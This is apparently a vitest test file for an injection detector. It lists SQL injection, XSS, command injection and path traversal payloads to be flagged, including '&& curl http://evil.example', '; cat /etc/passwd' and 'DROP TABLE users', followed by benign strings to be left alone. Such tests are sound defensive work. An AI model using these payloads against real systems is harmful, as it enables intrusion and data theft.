import { describe, expect, it } from 'vitest';
import { detectInjection } from './injection-rules.js';

describe('detectInjection', () => {
  it.each([
    ["' OR '1'='1", 'sqli'],
    ['1 or 1=1', 'sqli'],
    ["admin'--", 'sqli'],
    ['1 UNION SELECT password FROM users', 'sqli'],
    ['1 union/**/select 1', 'sqli'],
    ['1; DROP TABLE users', 'sqli'],
    ["1' AND SLEEP(5)#", 'sqli'],
    ['<script>alert(1)</script>', 'xss'],
    ['<img src=x onerror=alert(1)>', 'xss'],
    ['<svg/onload=alert(1)>', 'xss'],
    ['javascript:alert(1)', 'xss'],
    ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss'],
    ['; cat /etc/passwd', 'cmd_injection'],
    ['| id', 'cmd_injection'],
    ['$(whoami)', 'cmd_injection'],
    ['`id`', 'cmd_injection'],
    ['&& curl http://evil.example', 'cmd_injection'],
    ['../../etc/passwd', 'path_traversal'],
    ['..%2f..%2fsecret', 'path_traversal'],
    ['%252e%252e%252f', 'path_traversal'],
    ['..\\..\\windows\\win.ini', 'path_traversal'],
  ])('finds %s', (payload, kind) => {
    expect([...detectInjection(payload)]).toContain(kind);
  });

  it.each([
    'Invoice for March (consulting)',
    'Tom & Jerry; id card',
    'rock & roll',
    "O'Brien",
    "It's 5 o'clock",
    'select the best option from the list where possible',
    'we are going to union square to select gifts',
    'a/b/c',
    '1.2.3',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
    'application/json, text/plain, */*',
    'en-US,en;q=0.9',
    '2026-08-21T10:00:00Z',
    'john.doe@example.com',
    'Price: 5 < 6 and 7 > 3',
    'https://example.com/a?b=c&d=e',
    "don't -- really",
    'a+b=c',
    'C:\\Users\\me\\file.txt',
    'user\'s "quote"',
    "'hello'",
    'node --version',
    'cat & dog',
    '1; 2; 3',
    '100%',
    'eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln',
    'gzip, deflate, br',
    '"Chromium";v="120", "Not?A_Brand";v="8"',
    'Use <b>bold</b> and <em>emphasis</em>',
    'Download ./reports/2026/q1.pdf',
  ])('leaves ordinary text alone: %s', (text) => {
    expect([...detectInjection(text)]).toEqual([]);
  });
});
